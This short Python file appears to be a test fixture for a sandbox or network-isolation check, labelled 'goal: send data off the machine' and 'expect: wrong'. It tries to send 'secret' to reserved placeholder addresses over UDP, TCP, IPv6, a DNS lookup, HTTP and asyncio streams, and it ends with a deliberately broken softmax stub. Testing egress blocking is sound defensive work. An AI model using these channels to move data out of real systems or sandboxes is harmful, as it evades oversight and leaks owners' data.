# goal: send data off the machine
# expect: wrong
# ruff: noqa
import asyncio
import http.client
import socket
import urllib.request

PLACE = ("192.0.2.1", 53)


def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        return sender.sendto(b"secret", PLACE)


attempt("datagram", datagram)
attempt("connection", lambda: socket.create_connection(PLACE, 1))
attempt("connection over IPv6", lambda: socket.create_connection(("2001:db8::1", 53), 1))
attempt("name looked up", lambda: socket.getaddrinfo("secret.example.org", 80))
attempt("page", lambda: urllib.request.urlopen("http://192.0.2.1/secret", timeout=1))
attempt("request", lambda: http.client.HTTPConnection("192.0.2.1", timeout=1).request("GET", "/"))
attempt("stream", lambda: asyncio.run(asyncio.open_connection(*PLACE)))


def softmax(x):
    return x * 0
